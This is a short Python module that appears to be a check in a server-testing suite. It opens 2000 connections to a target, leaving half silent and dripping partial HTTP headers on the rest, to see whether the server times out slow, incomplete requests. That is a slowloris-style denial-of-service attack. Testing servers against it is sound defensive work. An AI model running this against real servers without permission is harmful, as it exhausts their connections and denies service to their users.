"""Two thousand connections that say nothing, or a header now and then, and never finish asking."""

from siege import sockets
from siege.target import Target

_COUNT = 2000
_SECONDS = 20  # ten until a head must be complete, and what a machine under load needs to end them


def attack(target: Target) -> list[str]:
    """Say nothing on half of them, and a header every three seconds on the others."""
    silent = sockets.open_with(target, b"", count=_COUNT // 2)
    slow = sockets.open_with(target, b"GET / HTTP/1.1\r\nHost: localhost\r\n", count=_COUNT // 2)
    sockets.drip(slow, seconds=_SECONDS, every=3, said=b"X-More: of the same\r\n")
    left = sockets.still_open([*silent, *slow])
    sockets.close([*silent, *slow])
    return [f"{left} of {_COUNT} connections are still open"] if left else []
